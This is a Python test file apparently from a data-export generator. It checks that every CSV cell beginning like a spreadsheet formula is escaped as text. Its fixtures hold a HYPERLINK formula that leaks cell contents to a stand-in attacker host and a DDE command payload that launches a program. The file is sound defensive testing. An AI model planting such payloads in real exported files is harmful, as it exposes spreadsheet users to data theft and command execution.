"""No cell of a CSV file is a formula to a spreadsheet, whatever a stranger's record says."""

import csv
import json
from pathlib import Path
from typing import Any

from generator.pages.edition.content import Content
from generator.pages.finding.downloads import Downloads, task_table
from generator.pages.finding.text_cells import text_cell, with_text_cells
from generator.pages.storing.cache import Cache
from generator.records.files.store import serialized
from generator.records.model import Record
from tests import factories
from tests.pages.making import edition, label, scale

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
COMMAND = "+1+cmd|' /C calc'!A0"
BEGINNINGS = "=+-@|\t\r\n＝＋－＠"


def test_a_text_that_begins_as_a_formula_does_is_told_to_be_text() -> None:
    assert [text_cell(f"{sign}1") for sign in BEGINNINGS] == [f"'{sign}1" for sign in BEGINNINGS]
    plain: list[Any] = ["", "a=1", "'=1", "1-2", "–1", " -", "x\n=1", -1, -0.5, None, True]
    assert [text_cell(value) for value in plain] == plain


def test_a_table_s_texts_are_told_alike_and_its_numbers_are_left_alone() -> None:
    import pyarrow

    texts = [*(f"{sign}1" for sign in BEGINNINGS), "", "a=1", "x\n=1", "x\r-1", None]
    whole = [-1] * len(texts)
    for kind in (pyarrow.string(), pyarrow.large_string()):
        table = pyarrow.table({"text": pyarrow.array(texts, kind), "other": ["plain"] * len(texts), "number": whole})
        told = with_text_cells(table)
        assert told.schema == table.schema
        assert told["text"].to_pylist() == [text_cell(text) for text in texts]
        assert (told["other"], told["number"]) == (table["other"], table["number"])


def test_no_cell_of_any_csv_file_is_a_formula(tmp_path: Path) -> None:
    from pyarrow import parquet

    record = hostile()
    on = scale()
    made = edition([label(record, on)], [on])
    measurements = factories.write_measurements(tmp_path / "data", [record])
    Downloads(Content(measurements, made), Cache(tmp_path / "cache")).write(tmp_path / "out")
    (tmp_path / "out" / "task.csv").write_text(task_table(made, record.task), newline="")
    for path in sorted((tmp_path / "out").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        risky = [cell for cell in cells if cell.startswith(tuple(BEGINNINGS)) and not _is_number(cell)]
        assert risky == [], path.name
        said = {"runs.csv": [FORMULA]}.get(path.name, [FORMULA, COMMAND] if path.name != "points.csv" else [])
        assert [text for text in said if f"'{text}" not in cells] == [], path.name
    # As they were recorded.
    rows = json.loads((tmp_path / "out" / "labels.json").read_text("utf-8"))
    assert (rows[0]["engine"], rows[0]["licence"]) == (FORMULA, COMMAND)
    assert parquet.read_table(tmp_path / "out" / "labels.parquet")["licence"].to_pylist() == [COMMAND]
    assert FORMULA in parquet.read_table(tmp_path / "out" / "runs.parquet")["note"].to_pylist()


def hostile() -> Record:
    """A record whose texts are formulas wherever a table takes them over."""
    made = json.loads(serialized(factories.record("acme/one")))
    made["setup"]["serving"]["engine"] = FORMULA
    made["provenance"]["licence"] = COMMAND
    for workload in made["workloads"]:
        for run in workload["runs"]:
            run["note"] = FORMULA
    return factories.record_from(made)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
